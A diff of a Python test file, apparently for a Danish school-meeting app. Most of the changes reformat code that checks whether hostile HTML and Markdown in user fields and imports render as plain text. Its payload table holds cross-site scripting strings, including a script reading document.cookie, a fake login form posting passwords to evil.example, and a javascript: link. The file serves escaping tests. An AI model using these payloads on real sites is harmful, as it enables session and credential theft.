@@ -1,5 +1,6 @@
 """User text is text: hostile HTML and Markdown typed into any field (or brought in by an import)
 is shown as typed on every screen, never as a live element."""
+
 from __future__ import annotations
 
 from datetime import date
@@ -21,8 +22,10 @@ PAYLOADS = {
     "iframe": '<iframe srcdoc="<script>parent.document.title=document.cookie</script>"></iframe>',
     "img": "<img src=http://evil.example/x>",
     "style": "<style>body{display:none}</style>",
-    "form": ('<form action="http://evil.example/login"><p>Log ind igen</p><input name="password" '
-             'type="password"><button>Log ind</button></form>'),
+    "form": (
+        '<form action="http://evil.example/login"><p>Log ind igen</p><input name="password" '
+        'type="password"><button>Log ind</button></form>'
+    ),
     "md_image": "![x](http://evil.example/i.png)",
     "md_link": "[klik](javascript:alert(1))",
 }
@@ -66,6 +69,7 @@ def live_elements(source: str, allow_html: bool) -> list[str]:
 
 def rendered_texts(at):
     """(where, Markdown body, allow_html) for every element and widget label on the page."""
+
     def walk(node, path):
         proto = getattr(node, "proto", None)
         kind = getattr(node, "type", "?")
@@ -81,6 +85,7 @@ def rendered_texts(at):
                 yield f"{path}/radio.option", str(option), False
         for i, child in getattr(node, "children", {}).items():
             yield from walk(child, f"{path}/{i}")
+
     yield from walk(at._tree, "")
 
 
@@ -104,27 +109,70 @@ def store_hostile_text(runner) -> str:
     holding every payload, as a leader could type them or an import could bring them in.
     Returns the talk's id."""
     talk_id = talks.create_talk(runner, LEDER, "leder", BAKKE, YEAR, date(2026, 3, 10), HOSTILE, "standard")
-    runner.write("insert_participant", LEDER, "leder", [{"school": BAKKE, "talk_id": talk_id, "name": HOSTILE,
-                                                         "role": "skolebestyrelse"}])
+    runner.write(
+        "insert_participant",
+        LEDER,
+        "leder",
+        [{"school": BAKKE, "talk_id": talk_id, "name": HOSTILE, "role": "skolebestyrelse"}],
+    )
     item = runner.run("talk_agenda", LEDER, school=BAKKE, talk_id=talk_id).row(0, named=True)
-    runner.write("update_agenda_item", LEDER, "leder", [{
-        "school": BAKKE, "item_id": item["item_id"], "starts_at": "12:00", "ends_at": "12:10", "title": HOSTILE,
-        "kind": "velkomst", "screen": "overblik", "questions": HOSTILE}])
-    runner.write("save_note", LEDER, "leder", [{"school": BAKKE, "item_id": item["item_id"], "body": HOSTILE,
-                                                 "base_version": 0, "username": "leder"}])
-    runner.write("upsert_agreement", LEDER, "leder", [{
-        "school": BAKKE, "talk_id": talk_id, "agreement_id": f"{talk_id}-X1", "text": HOSTILE, "owner": HOSTILE,
-        "deadline": date(2026, 6, 1), "status": "ikke startet", "carried_from": None, "username": "leder"}])
+    runner.write(
+        "update_agenda_item",
+        LEDER,
+        "leder",
+        [
+            {
+                "school": BAKKE,
+                "item_id": item["item_id"],
+                "starts_at": "12:00",
+                "ends_at": "12:10",
+                "title": HOSTILE,
+                "kind": "velkomst",
+                "screen": "overblik",
+                "questions": HOSTILE,
+            }
+        ],
+    )
+    runner.write(
+        "save_note",
+        LEDER,
+        "leder",
+        [{"school": BAKKE, "item_id": item["item_id"], "body": HOSTILE, "base_version": 0, "username": "leder"}],
+    )
+    runner.write(
+        "upsert_agreement",
+        LEDER,
+        "leder",
+        [
+            {
+                "school": BAKKE,
+                "talk_id": talk_id,
+                "agreement_id": f"{talk_id}-X1",
+                "text": HOSTILE,
+                "owner": HOSTILE,
+                "deadline": date(2026, 6, 1),
+                "status": "ikke startet",
+                "carried_from": None,
+                "username": "leder",
+            }
+        ],
+    )
 
     def imported(cur):  # what an import or another system could have put in
         cur.execute("UPDATE school SET name = ? WHERE institution_no = ?", ["Bakkeskolen " + HOSTILE, BAKKE])
-        cur.execute("UPDATE school_project SET title = ?, purpose = ? WHERE institution_no = ?",
-                    [HOSTILE, HOSTILE, BAKKE])
-        cur.execute("UPDATE project_criterion SET text = ?, evidence = ? WHERE project_id IN "
-                    "(SELECT project_id FROM school_project WHERE institution_no = ?)", [HOSTILE, HOSTILE, BAKKE])
-        cur.execute("UPDATE leaps_course SET title = ?, company_partner = ? WHERE institution_no = ?",
-                    [HOSTILE, HOSTILE, BAKKE])
+        cur.execute(
+            "UPDATE school_project SET title = ?, purpose = ? WHERE institution_no = ?", [HOSTILE, HOSTILE, BAKKE]
+        )
+        cur.execute(
+            "UPDATE project_criterion SET text = ?, evidence = ? WHERE project_id IN "
+            "(SELECT project_id FROM school_project WHERE institution_no = ?)",
+            [HOSTILE, HOSTILE, BAKKE],
+        )
+        cur.execute(
+            "UPDATE leaps_course SET title = ?, company_partner = ? WHERE institution_no = ?", [HOSTILE, HOSTILE, BAKKE]
+        )
         store.bump_data_version(cur)
+
     runner.transaction(imported)
     return talk_id
 
@@ -132,6 +180,7 @@ def store_hostile_text(runner) -> str:
 @pytest.fixture
 def hostile_store(store_copy):
     from queries.runner import runner_for
+
     return store_hostile_text(runner_for(store_copy))
 
 
@@ -155,6 +204,7 @@ def test_each_payload_is_literal_text_after_escaping(name):
 
 def test_escaped_text_reads_as_typed():
     import html as stdlib_html
+
     typed = "Læsning & trivsel: 1. mål <5 % — (se nr. 2)!\nNæste linje"
     assert stdlib_html.unescape(plain.md(typed)) == typed.replace("\n", " ")
     assert stdlib_html.unescape(plain.html(typed)) == typed.replace("\n", "<br>")
@@ -177,8 +227,9 @@ def test_the_talk_screen_shows_hostile_place_participants_and_agreements_as_text
     assert assert_no_live_user_text(at) >= 2  # the school name in the title and the place
 
 
-@pytest.mark.parametrize("page", ["views/overblik.py", "views/succeskriterier.py", "views/leaps.py",
-                                  "views/deltagelse.py"])
+@pytest.mark.parametrize(
+    "page", ["views/overblik.py", "views/succeskriterier.py", "views/leaps.py", "views/deltagelse.py"]
+)
 def test_school_screens_show_a_hostile_school_name_and_project_as_text(hostile_store, page):
     at = login("leder", "demo-leder")
     at.switch_page(page).run()
